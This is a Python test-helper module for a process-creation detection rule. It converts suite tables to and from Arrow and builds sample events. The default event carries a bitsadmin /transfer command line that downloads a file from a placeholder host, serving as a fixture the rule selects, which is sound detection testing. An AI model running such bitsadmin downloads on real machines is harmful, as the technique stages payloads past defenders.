"""Converts tables of the suite to the forms that users have."""

from typing import Any, TypeAlias

import pyarrow as pa

Table: TypeAlias = dict[str, Any]

#: The columns that the rule adds. It does not change the others.
ADDED = ["ParsedCommandLine", "RemoteUrl", "LocalFile", "Direction", "HostName", "DnsDomain"]

#: The columns that the rule requires.
REQUIRED = [
    "TimeGenerated",
    "DeviceId",
    "DeviceName",
    "FileName",
    "ProcessId",
    "InitiatingProcessFolderPath",
    "InitiatingProcessAccountDomain",
    "InitiatingProcessAccountName",
    "InitiatingProcessSHA256",
    "ProcessCommandLine",
]

TYPES: dict[str, pa.DataType] = {
    "string": pa.string(),
    "bool": pa.bool_(),
    "int": pa.int32(),
    "long": pa.int64(),
    "real": pa.float64(),
    "datetime": pa.timestamp("us", "UTC"),
    "timespan": pa.duration("us"),
    "guid": pa.binary(16),
    "dynamic": pa.list_(pa.string()),
}


def event(**cells: Any) -> dict[str, Any]:
    """Return a process creation that the rule selects unless `cells` change that."""
    selected = {
        "FileName": "bitsadmin.exe",
        "DeviceName": "ws07.corp.example",
        "ProcessCommandLine": r"bitsadmin /transfer j http://x/a C:\a",
    }
    return dict.fromkeys(REQUIRED, "") | {"ProcessId": 7} | selected | cells


def in_batches(rows: list[dict[str, Any]]) -> pa.Table:
    """Return a table with one batch for each row."""
    table = pa.Table.from_pylist(rows)
    return pa.concat_tables([table.slice(at, 1) for at in range(len(rows))])


def rows(answer: object) -> list[dict[str, Any]]:
    """Return the rows of an answer to dicts or to Arrow."""
    return answer if isinstance(answer, list) else pa.table(answer).to_pylist()


def names(table: Table) -> list[str]:
    """Return the names of a table's columns."""
    return [column["name"] for column in table["columns"]]


def to_array(table: Table, at: int, texts: pa.DataType) -> pa.Array:
    """Convert a column to Arrow. A column that is not of strings becomes null."""
    if table["columns"][at]["type"] != "string":
        return pa.nulls(len(table["rows"]), TYPES[table["columns"][at]["type"]])
    cells = pa.array([row[at] for row in table["rows"]], pa.string())
    return cells.dictionary_encode() if texts == "dictionary" else cells.cast(texts)


def to_arrow(table: Table, texts: Any = pa.string(), index: str = "#") -> pa.Table:
    """Convert a table to Arrow, with the index of each row in a last column."""
    columns = [to_array(table, at, texts) for at in range(len(table["columns"]))]
    indices = pa.array(range(len(table["rows"])), pa.int64())
    return pa.Table.from_arrays([*columns, indices], names=[*names(table), index])


def from_arrow(answer: pa.Table, table: Table, index: str = "#") -> Table:
    """Convert the rule's answer over `to_arrow(table)` back to a table of the suite."""
    types = {column["name"]: column["type"] for column in table["columns"]}
    types |= dict.fromkeys(ADDED, "string") | {"ParsedCommandLine": "dynamic"}
    columns = [name for name in answer.column_names if name != index]

    def cell(row: dict[str, Any], name: str) -> Any:
        if name in ADDED:
            return row[name]
        value = table["rows"][row[index]][names(table).index(name)]
        return "" if value is None and types[name] == "string" else value

    rows = [[cell(row, name) for name in columns] for row in answer.to_pylist()]
    return {"columns": [{"name": name, "type": types[name]} for name in columns], "rows": rows}
